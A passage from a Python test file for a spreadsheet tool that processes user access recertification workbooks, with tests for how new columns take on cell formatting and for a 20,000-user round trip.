        write_final(data, {("Pro99", 2): "Baja"}, recert.sheets)


def test_write_final_keeps_fonts_of_table_cells() -> None:
    """A new column's cells take the table's font and borders, not its fill."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "BLife"
    sheet.append(["HID", "Nombre"])
    sheet.append([1, "Ana"])
    sheet["B2"].font = Font(name="Arial", size=9)
    sheet["B2"].fill = PatternFill("solid", start_color="FF0000")
    buffer = io.BytesIO()
    workbook.save(buffer)
    recert = read_recert(buffer.getvalue())
    final = load(write_final(buffer.getvalue(), {("BLife", 2): "Activo"}, recert.sheets))
    cell = final["BLife"]["C2"]
    assert cell.font.name == "Arial" and cell.font.size == 9
    assert cell.fill.fill_type is None


# --- size -----------------------------------------------------------------------------------


def test_big_files_round_trip() -> None:
    """20,000 users (pyproject has no slow marker): read, enriched, answered, read back."""
    recert = read_recert(big_metlife_file(20_000))
    assert len(recert.users) == 20_000
    assert recert.problems == ()
    assert recert.applications == ("B'Life", "Pro99", "Gestión Móvil")
    rows = enriched_rows(recert.users)
    data = write_enriched(rows, case_ref=CASE, respond_by=RESPOND_BY, deadline=DEADLINE)
    answers = read_answers(data)
    assert len(answers.pegasus) == 20_000
    assert answers.answers == {}
